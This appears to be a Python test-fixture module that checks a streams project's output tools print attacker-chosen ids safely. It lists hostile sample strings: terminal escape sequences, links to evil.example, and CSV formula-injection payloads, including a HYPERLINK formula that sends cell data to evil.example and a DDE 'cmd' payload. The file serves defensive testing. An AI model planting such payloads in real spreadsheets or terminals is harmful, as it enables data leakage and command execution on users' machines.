"""Ids, reasons and keys an attacker can get into the tools' output, and how to read it back.

Anyone who can produce an event (or run a worker peer) chooses these strings; the tools must print
them without letting them drive a terminal or a spreadsheet.
"""

from __future__ import annotations

import csv
import io

import orjson

from streams.tools.output import Format

HOSTILE_IDS = [
    "\x1b[2J\x1b[Hrep-1",  # clear the screen, cursor home
    "\x1b]8;;https://evil.example/\x07rep-1\x1b]8;;\x07",  # OSC 8 hyperlink
    "evil\rrep-1\x07",  # overwrite the line, ring the bell
    "\x9b31mrep-1\x7f",  # C1 CSI, DEL
    "\u202e1-per\u200b",  # right-to-left override, zero-width space
    "rep-1\nrep-2  fake row",
    "[red]rep-1[/red][link=https://evil.example]x[/link]",  # rich markup
    "rep:100:1",  # a rich emoji code
    '=HYPERLINK("https://evil.example/?"&A1,"rep-1")',
    "@SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_inert(text: str) -> bool:
    """Nothing in ``text`` a terminal acts on: every line made of printable characters only."""
    return all(line.isprintable() for line in text.split("\n"))


def csv_table(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def read_back(fmt: Format, text: str) -> list:
    """Rows as a reader of each format sees them: objects, CSV dicts, or table lines."""
    if fmt is Format.json:
        return orjson.loads(text)
    if fmt is Format.csv:
        return csv_table(text)
    return text.rstrip("\n").split("\n")[2:]
